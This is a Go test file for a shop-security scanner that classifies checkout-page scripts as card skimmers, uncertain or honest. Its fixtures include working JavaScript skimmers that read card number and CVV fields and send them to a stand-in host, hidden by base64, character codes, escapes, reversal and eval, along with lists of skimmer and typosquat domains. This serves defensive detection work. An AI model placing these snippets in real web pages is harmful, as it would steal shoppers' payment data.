package payment

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"shopcheck/scanner"
	"shopcheck/scanner/observe"
	"shopcheck/scanner/probes/inventory"
	"shopcheck/scanner/probes/shop"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func codes(s string) string {
	var list []string
	for _, c := range []byte(s) {
		list = append(list, fmt.Sprint(c))
	}
	return strings.Join(list, ",")
}

func escapes(form, s string) string {
	var out strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&out, form, c)
	}
	return out.String()
}

// fields is what thieves read, in the words of a small script of our own.
const fields = `var d={n:document.querySelector('[name=cardnumber]').value,c:document.getElementById('cvv').value};`

// thieves are small scripts that take cards, by how they do it.
var thieves = map[string]string{
	"base64":              `btn.addEventListener('click',function(){` + fields + `fetch(atob("` + b64("https://cdn-metrics.top/c") + `"),{method:'POST',body:JSON.stringify(d)})});`,
	"base64, bare host":   fields + `new Image().src='https://'+atob('` + b64("cdn-metrics.top/p.gif") + `')+'?'+btoa(JSON.stringify(d));`,
	"base64, in a name":   `var g="` + b64("https://cdn-metrics.top/c") + `";` + fields + `navigator.sendBeacon(window.atob(g),JSON.stringify(d));`,
	"numbers":             fields + `var u=String.fromCharCode(` + codes("https://cdn-metrics.top/c") + `);var x=new XMLHttpRequest();x.open('POST',u);x.send(btoa(d.n));`,
	"numbers, applied":    `var a=[` + codes("wss://cdn-metrics.top/") + `];` + fields + `new WebSocket(String.fromCharCode.apply(null,a)).send(d.n)`,
	"escapes":             fields + `fetch("` + escapes(`\x%02x`, "https://cdn-metrics.top/c") + `",{body:d.n})`,
	"escapes of Unicode":  fields + `fetch("` + escapes(`\u%04x`, "https://cdn-metrics.top/c") + `",{body:d.n})`,
	"percent signs":       fields + `fetch(unescape("` + escapes(`%%%02x`, "https://cdn-metrics.top/c") + `"),{body:d.n})`,
	"hexadecimal":         fields + `fetch(hex("` + escapes(`%02x`, "https://cdn-metrics.top/c") + `"),{body:d.n})`,
	"backwards":           fields + `fetch("c/pot.scirtem-ndc//:sptth".split("").reverse().join(""),{body:d.n})`,
	"in pieces":           fields + `fetch('ht'+'tps://cd'+'n-met'+'rics.t'+'op/c',{body:d.n})`,
	"in a list of pieces": fields + `fetch(["https:","//cdn-m","etrics.top","/c"].join(""),{body:d.n})`,
	"run from base64":     `eval(atob("` + b64(fields+`fetch("https://cdn-metrics.top/c",{body:d.n})`) + `"))`,
	"a picture, in plain": `document.forms[0].onsubmit=function(){` + fields + `(new Image).src="https://cdn-metrics.top/p?d="+btoa(JSON.stringify(d))};`,
	"a beacon, in plain":  fields + `navigator.sendBeacon("https://cdn-metrics.top/p",d.n)`,
	"a known thief":       `fetch("https://neweggstats.com/GlobalData/",{body:x})`,
}

// uncertain are small scripts that thieves and honest people may write.
var uncertain = map[string]string{
	"to an unknown company":   `$('#pay').on('click',function(){$.post("https://api.small-gateway.example/token",{number:$('#card-number').val(),cvc:$('#card-cvc').val()})});`,
	"a pixel close to cards":  `$('#pay').click(function(){$.post("/pay",{number:$('#card-number').val(),cvc:$('#cvc').val()});new Image().src="https://px.small-affiliate.example/i?u="+location});`,
	"a beacon of the event":   `$('#pay').click(function(){var card={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("/pay",card)});navigator.sendBeacon("https://in.small-stats.example/e",JSON.stringify({event:"pay"}))`,
	"escaped by an encoder":   `var u="https\u003A\u002F\u002Fmy\u002Dgateway.example\u002Fapi";$.post(u,{number:$('#card-number').val(),cvc:$('#cvc').val()});`,
	"a whole form":            `var p=jQuery("#checkout").serializeArray();jQuery.ajax({type:"POST",url:"https://collect.example/x",data:p})`,
	"hidden, the number only": `fetch(atob("` + b64("https://cdn-metrics.top/c") + `"),{body:document.querySelector('#card-number').value})`,
	"hidden, every field":     `document.querySelectorAll("input, select").forEach(function(i){i.onblur=function(){fetch(atob("` + b64("https://cdn-metrics.top/c") + `"),{body:i.value})}})`,
	"an imitation":            `s.src="https://www.google-analytlcs.com/ga.js"`,
	"made-up names":           `var _0x3f2a=['a'];` + strings.Repeat(`_0x3f2a[0x1];`, 30),
	"an own alphabet":         `var a="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=";d(a,"AhvUy3rPB24")`,
	"in a list, in plain":     `var t=["[name=cardnumber]","value","[name=cvv]","body"];fetch("https://cdn-metrics.top/c",{[t[3]]:document.querySelector(t[0])[t[1]]})`,
	"escapes all over":        `window["` + escapes(`\x%02x`, "documentquerySelectoraddEventListenersubmitvalueonblurbody") + `"]()`,
	"run from base64":         `eval(atob("` + b64(strings.Repeat("console.log('nothing of interest, but long');", 6)) + `"))`,
	"run from numbers":        `eval(String.fromCharCode(` + codes(strings.Repeat("console.log('nothing');", 4)) + `))`,
}

// honest are scripts of kinds that shops really have, in words of our own.
var honest = map[string]string{
	"a tag manager":         `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-X');`,
	"an unknown statistic":  `(function(){var s=document.createElement('script');s.src='https://cdn.small-stats.example/t.js';document.head.appendChild(s);new Image().src='https://px.small-stats.example/i?u='+location})();`,
	"a pixel":               `!function(f,b){f.fbq=function(){};var t=b.createElement('script');t.src='https://connect.facebook.net/en_US/fbevents.js'}(window,document);fbq('track','AddPaymentInfo')`,
	"a recorder":            `var masked=["cc-number","cvv","cardnumber","password"];function rec(e){if(masked.indexOf(e.name)>=0)return;navigator.sendBeacon("https://in.small-recorder.example/r",e.value)}`,
	"a known company":       `var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("https://api.stripe.com/v1/tokens",c)` + `;$.getScript("https://js.stripe.com/v3/")`,
	"the shop itself":       `var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("https://api.shop.test/pay",c);fetch("/pay",{body:c})`,
	"a way to pay":          `function put(n){var expirationDate=new Date();document.cookie=n+expirationDate}$('[name=payment]').change(function(){if($(this).val()=='credit_card')show()});new Image().src='https://px.small-affiliate.example/i?o='+$('#order').val()`,
	"a gesture and a store": `el.style.touchAction="pan-y";localStorage.setItem(k,JSON.stringify({value:v,expiry:t}));navigator.sendBeacon("https://in.small-stats.example/e",JSON.stringify({value:1}))`,
	"data for a script":     `window.__STATE__=JSON.parse(decodeURIComponent("` + strings.Repeat("%7B%22name%22%3A%22tea%22%2C%22price%22%3A12%7D%2C", 30) + `"))`,
	"data with escapes":     `window.__STATE__=JSON.parse('` + strings.Repeat(`\x7b\x22name\x22:\x22tea\x22\x7d,`, 30) + `')`,
	"a pixel beside cards":  `$('#pay').click(function(){var c={number:$('#card-number').val(),cvc:$('#cvc').val()};$.post("/pay",c)});` + strings.Repeat("/* the shop's own, long enough to be apart */", 8) + `new Image().src="https://px.small-affiliate.example/i?u="+encodeURIComponent(location.href);`,
	"a validator":           `/* see https://small-docs.example/card */ $.fn.card=function(){return {cardNumber:/^4[0-9]{12}/,cvc:/[0-9]{3}/,expiry:1}};`,
	"a newsletter":          `$('#news').submit(function(){$.post("https://lists.small-mail.example/subscribe",$(this).serialize())})`,
	"the checkout's own":    `$('form.checkout').on('submit',function(){$.ajax({type:'POST',url:wc_checkout_params.checkout_url,data:$('form.checkout').serialize()})});var help="https://help.small-theme.example/";`,
	"data in JSON":          `var c={"url":"https:\/\/shop.test\/","text":"\u003cb\u003eStra\u00dfe\u003c\/b\u003e \u0026 mehr"}`,
	"a picture in base64":   `var logo="data:image/png;base64,` + strings.Repeat("iVBORw0KGgo", 40) + `";function dec(s){return atob(s)}`,
	"statistics in hiding":  `fetch(atob("` + b64("https://in.small-stats.example/e") + `"),{body:location.href})`,
	"letters from numbers":  `for(var i=65;i<91;i++)abc+=String.fromCharCode(i);var t=[104,116,116,112,115,58,47,47,97]`,
	"a loader in pieces":    `document.write('<scr'+'ipt src="https://cdn.small-stats.example/a.js"></scr'+'ipt>')`,
	"umlauts":               strings.Repeat(`"\u00fcber Gr\u00f6\u00dfe \xe4ndern"`, 30),
}

// inPage judges a page with a script in it.
func inPage(path, script string, role shop.Role) scanner.Finding {
	p := shop.Page{Role: role, Page: page(path, `<h1>Pay here</h1><p>A page with enough words to be one.</p><script>`+script+`</script>`)}
	s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
	return s.judge("shop.test")
}

func TestJudgeSkimmer(t *testing.T) {
	for _, group := range []struct {
		scripts map[string]string
		want    scanner.Outcome
	}{{thieves, scanner.Fail}, {uncertain, scanner.Warn}, {honest, scanner.Pass}} {
		for name, script := range group.scripts {
			t.Run(string(group.want)+"/"+name, func(t *testing.T) {
				f := inPage("/checkout", script, shop.Checkout)
				if f.Outcome != group.want || len(f.Evidence) == 0 {
					t.Errorf("judge = %+v, want %s", f, group.want)
				}
				for _, e := range f.Evidence {
					if strings.Contains(e.Quote, "https://cdn-metrics") {
						t.Errorf("the quote %q can be followed", e.Quote)
					}
				}
			})
		}
	}
}

// TestJudgeFile: files are looked into like texts in pages, and what cannot be
// read is not called harmless.
func TestJudgeFile(t *testing.T) {
	const at = "https://shop.test/a.js"
	script := func(body string, err error, cut bool) scanner.Finding {
		p := shop.Page{Role: shop.Login, Page: page("/login", `<h1>Log in</h1><form><input type=password></form><script src="/a.js"></script>`)}
		s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
		b := inventory.Body{Script: s.scripts[0], Err: err}
		if err == nil {
			b.File = &observe.Page{Method: "GET", URL: at, Status: 200, Body: []byte(body), Cut: cut, At: p.At}
		}
		s.bodies = []inventory.Body{b}
		return s.judge("shop.test")
	}
	for _, tt := range []struct {
		name string
		got  scanner.Finding
		want scanner.Outcome
		says string
	}{
		{"a thief in a file", script(thieves["base64"], nil, false), scanner.Fail, "(login) reads card fields"},
		{"an honest file", script(honest["a tag manager"], nil, false), scanner.Pass, "visible from outside in 1 page and 1 script that"},
		{"unreadable names and cards", script(uncertain["made-up names"]+`"cardnumber","cvv"`, nil, false), scanner.Warn, "made unreadable"},
		{"unreadable names alone", script(uncertain["made-up names"], nil, false), scanner.Pass, "Nothing"},
		{"not fetched", script("", &observe.Failure{Cause: observe.Timeout, Words: "no answer in time"}, false), scanner.Unknown, "where they log in or pay 1 could not be read, or not wholly: no answer in time"},
		{"longer than is read", script("x", nil, true), scanner.Unknown, "longer than is read"},
	} {
		if tt.got.Outcome != tt.want || !strings.Contains(tt.got.Message, tt.says) {
			t.Errorf("%s: %+v, want %s: %s", tt.name, tt.got, tt.want, tt.says)
		}
	}
}

// TestNearCards: code that was made unreadable alarms only where cards are typed.
func TestNearCards(t *testing.T) {
	if f := inPage("/", uncertain["made-up names"], shop.Home); f.Outcome != scanner.Pass {
		t.Errorf("on the home page: %+v", f)
	}
	p := shop.Page{Role: shop.Account, Page: page("/account", `<form method=post>`+number+`</form><script>`+uncertain["made-up names"]+`</script>`)}
	s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
	if f := s.judge("shop.test"); f.Outcome != scanner.Warn {
		t.Errorf("beside a form for cards: %+v", f)
	}
}

func TestJudgeHosts(t *testing.T) {
	for _, tt := range []struct {
		name, body string
		want       scanner.Outcome
		says       string
	}{
		{"a thief's script", `<script src="https://naturalfreshmall.com/image/pixel.js"></script>`, scanner.Fail, "a script from naturalfreshmall.com, which took cards"},
		{"a harmful library", `<script src="https://cdn.polyfill.io/v3/polyfill.min.js"></script>`, scanner.Fail, "known for harmful scripts: it was sold"},
		{"an imitation", `<script src="https://www.googletagmanager.eu.com/gtm.js"></script>`, scanner.Warn, "imitates googletagmanager.com"},
		{"an imitation's frame", `<iframe src="https://js.str1pe.com/x"></iframe>`, scanner.Warn, "a frame from js.str1pe.com, a name that imitates stripe.com"},
		{"an imitation's form", `<form action="https://secure.paypa1.com/x"></form>`, scanner.Warn, "imitates paypal.com"},
		{"a link to one", `<a href="https://secure.paypa1.com/x">beware</a>`, scanner.Pass, "Nothing"},
		{"an honest unknown", `<script src="https://cdn.small-chat.example/x.js"></script>`, scanner.Unknown, "limit of script files"},
	} {
		p := shop.Page{Role: shop.Checkout, Page: page("/checkout", `<h1>Pay</h1>`+tt.body)}
		s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
		if f := s.judge("shop.test"); f.Outcome != tt.want || !strings.Contains(f.Message, tt.says) {
			t.Errorf("%s: %+v, want %s: %s", tt.name, f, tt.want, tt.says)
		}
	}
}

// TestBuiltPage: what a page asked for while a browser built it counts as if it
// stood in the page.
func TestBuiltPage(t *testing.T) {
	p := page("/checkout", "<h1>Pay</h1>")
	p.Rendered, p.Requests = true, []observe.Request{
		{Method: "GET", URL: "https://shop.test/x.png", Type: "image"}, {Method: "GET", URL: "https://js.stripe.com/v3/card.html", Type: "frame"},
	}
	if f := judgeMode("shop.test", []*observe.Page{p}, []*observe.Page{p}, own); f.Outcome != scanner.Warn || !strings.Contains(f.Message, "a frame of Stripe") {
		t.Errorf("judgeMode = %+v", f)
	}
	p.Requests = append(p.Requests, observe.Request{Method: "POST", URL: "https://cdn.naturalfreshmall.com/c", Type: "beacon"})
	s := &search{own: own, pages: []shop.Page{{Role: shop.Checkout, Page: p}}}
	if f := s.judge("shop.test"); f.Outcome != scanner.Fail || !strings.Contains(f.Message, "a request to cdn.naturalfreshmall.com") {
		t.Errorf("judge = %+v", f)
	}
}

// TestLongPage: of what stands behind the end of what was read nobody can tell.
func TestLongPage(t *testing.T) {
	p := page("/checkout", "<h1>Pay</h1><p>and more, which was not read")
	p.Cut = true
	s := &search{own: own, pages: []shop.Page{{Role: shop.Checkout, Page: p}}}
	if f := s.judge("shop.test"); f.Outcome != scanner.Unknown || !strings.Contains(f.Message, "longer than is read") {
		t.Errorf("judge = %+v", f)
	}
}

// TestCrowd: a page that names more hosts than are looked up costs little, and is
// not called harmless.
func TestCrowd(t *testing.T) {
	var all strings.Builder
	for i := range 40 {
		all.WriteString("<script>/* cardnumber cvv .value fetch( mask */")
		for j := range 150 {
			fmt.Fprintf(&all, `a("https://h%d-%d.example/")`, i, j)
		}
		all.WriteString("</script>")
	}
	p := shop.Page{Role: shop.Checkout, Page: page("/checkout", "<h1>Pay</h1>"+all.String())}
	s := &search{own: own, pages: []shop.Page{p}}
	if f := s.judge("shop.test"); f.Outcome != scanner.Unknown || !strings.Contains(f.Message, "more addresses") || len(s.asked) > maxAsked {
		t.Errorf("judge = %+v, %d hosts", f, len(s.asked))
	}
}
